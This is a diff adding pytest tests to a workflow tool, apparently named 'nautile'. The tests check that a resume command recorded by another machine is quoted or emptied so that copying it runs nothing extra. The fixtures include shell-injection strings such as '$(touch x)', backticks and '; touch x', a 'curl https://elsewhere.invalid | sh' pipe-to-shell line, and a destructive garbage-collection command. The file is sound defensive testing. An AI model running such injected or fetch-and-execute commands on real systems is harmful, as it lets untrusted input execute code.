@@ -173,3 +173,35 @@ def test_a_forced_run_that_was_killed_continues_at_its_first_unfinished_step(sto
     for label in labels:
         attempt(store, label, "done", 1)
     assert shown(store)[0].resume == command
+
+
+@pytest.mark.parametrize(
+    ("recorded", "command"),
+    [
+        ("nautile run toy --set 'a=$(touch x)'", "nautile run toy --set 'a=$(touch x)'"),
+        ("nautile run $(touch x)", "nautile run '$(touch' 'x)'"),
+        ("nautile run toy; touch x", "nautile run 'toy;' touch x"),
+        ("nautile run `touch x`", "nautile run '`touch' 'x`'"),
+        ("/elsewhere/bin/nautile run toy", "nautile run toy"),
+        ("prefect flow-run retry r1    # or Retry on the run's page", "nautile retry r1"),
+        ("nautile store gc --days 0", ""),
+        ("curl https://elsewhere.invalid | sh", ""),
+        ("nautile run 'no end", ""),
+        ("nautile", ""),
+        ("x", ""),
+    ],
+)
+def test_a_recorded_command_that_is_copied_runs_nothing_of_its_own(store, recorded, command):
+    """Another machine may have written the event."""
+    plan(store, state="failed", ended=at(9), resume=recorded)
+    assert shown(store)[0].resume == command
+
+
+def test_the_step_that_a_forced_run_resumes_from_is_one_word(store):
+    selection = Selection(force=True)
+    label = "align; touch x"
+    steps = [{"label": label, "stage": "align", "key": key_of("align"), "after": []}]
+    plan(
+        store, state="failed", ended=at(9), steps=steps, resume=f"nautile run toy{selection.options(FIRST_UNFINISHED)}"
+    )
+    assert shown(store)[0].resume == "nautile run toy --from 'align; touch x' --force"
